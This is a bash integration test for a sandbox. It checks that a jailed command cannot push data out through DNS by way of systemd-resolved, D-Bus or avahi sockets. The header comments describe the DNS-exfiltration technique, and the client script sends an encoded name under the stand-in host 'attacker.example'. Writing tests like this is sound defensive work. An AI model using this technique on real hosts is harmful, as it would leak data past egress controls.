#!/usr/bin/env bash
# DNS exfiltration through the host's name services: systemd-resolved answers any
# user's lookups over its varlink socket (glibc's nss-resolve) and over the system
# D-Bus (resolvectl, busctl), avahi over its own socket (nss-mdns), all open to
# every user, nobody included. A CMD that asks them for <data>.attacker.example has
# the host's DNS carry the data out, past the jail's own resolver and egress
# default deny. In CMD's view these sockets are hidden, as nscd's is.
#
#   unshare -m (private /run): fake resolved, system bus, avahi, logging what they get
#   jail --user nobody: CMD connects to each socket and sends a name
. "$(dirname "$0")/../integration/lib.sh"

require_cmd unshare
cat > "$T/config.json" <<'EOF2'
{ "egress": { "default": "deny", "allow": ["api.example.com"] } }
EOF2
cat > "$T/svc.py" <<'PYEOF'
import os, select, socket, sys, time
log, ready, paths = sys.argv[1], sys.argv[2], sys.argv[3:]
socks = []
for p in paths:
    os.makedirs(os.path.dirname(p), exist_ok=True)
    s = socket.socket(socket.AF_UNIX)
    s.bind(p)
    os.chmod(p, 0o666)
    s.listen(8)
    socks.append(s)
open(ready, "w").close()
end = time.time() + 30
while time.time() < end:
    r, _, _ = select.select(socks, [], [], 0.2)
    for s in r:
        c, _ = s.accept()
        c.settimeout(2)
        try:
            data = c.recv(256)
        except OSError:
            data = b""
        with open(log, "a") as f:
            f.write("%s got %r\n" % (s.getsockname(), data))
        c.close()
PYEOF
cat > "$T/client.py" <<'PYEOF'
import socket, sys
for p in sys.argv[1:]:
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(2)
    try:
        s.connect(p)
        s.sendall(b"6578666696c.attacker.example")
        print(p, "connected")
    except OSError as e:
        print(p, "refused", e.errno)
    s.close()
PYEOF
RESOLVED=/run/systemd/resolve/io.systemd.Resolve
BUS=/run/dbus/system_bus_socket
AVAHI=/run/avahi-daemon/socket
# A mount namespace of the test's own, whose /run is empty but for the fakes.
out=$(unshare -m --propagation private bash -c '
  set -e
  mount -t tmpfs -o mode=0755 tmpfs /run
  "$1" "$2/svc.py" "$2/svc.log" "$2/ready" "$4" "$5" "$6" 2> "$2/svc.err" &
  svc=$!
  trap "kill $svc 2>/dev/null; wait $svc 2>/dev/null || true" EXIT
  for i in $(seq 100); do [ -e "$2/ready" ] && break; sleep 0.05; done
  "$3" jail --config "$2/config.json" --user nobody -- "$1" "$2/client.py" "$4" "$5" "$6"
  echo "jail status $?"
' _ "$PY" "$T" "$AUTHPROXY" "$RESOLVED" "$BUS" "$AVAHI" 2> "$T/jail.log")
assert_contains "$out" "jail status 0" "the jail's status"
[ -e "$T/ready" ] || fail "the fake services did not start: $(cat "$T/svc.err")"
assert_contains "$out" "$RESOLVED refused" "systemd-resolved's varlink socket in the jail"
assert_contains "$out" "$BUS refused" "the system D-Bus socket in the jail"
assert_contains "$out" "$AVAHI refused" "avahi's socket in the jail"
assert_eq "$(cat "$T/svc.log" 2>/dev/null)" "" "what the host's name services received"
pass "CMD reaches no socket of systemd-resolved, the system bus or avahi"
